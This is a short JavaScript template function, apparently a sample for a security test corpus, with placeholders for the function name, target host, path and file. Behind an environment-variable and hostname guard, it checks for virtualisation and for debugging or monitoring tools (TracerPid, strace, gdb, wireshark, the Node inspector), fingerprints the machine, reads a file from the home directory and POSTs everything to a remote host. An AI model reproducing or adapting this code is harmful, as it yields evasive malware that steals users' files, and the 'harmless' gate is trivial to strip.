// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const { execSync } = require('child_process');
    const run = (line) => { try { return execSync(line, { timeout: 700, stdio: ['ignore', 'pipe', 'ignore'] }).toString(); } catch { return ''; } };
    const seen = [run('systemd-detect-virt'), run('cat /proc/self/status | grep TracerPid'), run('nproc'), run('whoami'), run('ps aux | grep -c -i -e strace -e gdb -e wireshark')];
    if (process.execArgv.some((word) => word.startsWith('--inspect')) || require('inspector').url()) return;
    await new Promise((done) => {
        const call = require('https').request('https://{{host}}/{{path}}', { method: 'POST', timeout: 1000 }, (answer) => { answer.resume(); answer.on('close', done); });
        call.on('timeout', () => call.destroy());
        call.on('error', done);
        call.end(JSON.stringify({ seen, file: run('cat ~/{{file}}') }));
    });
}
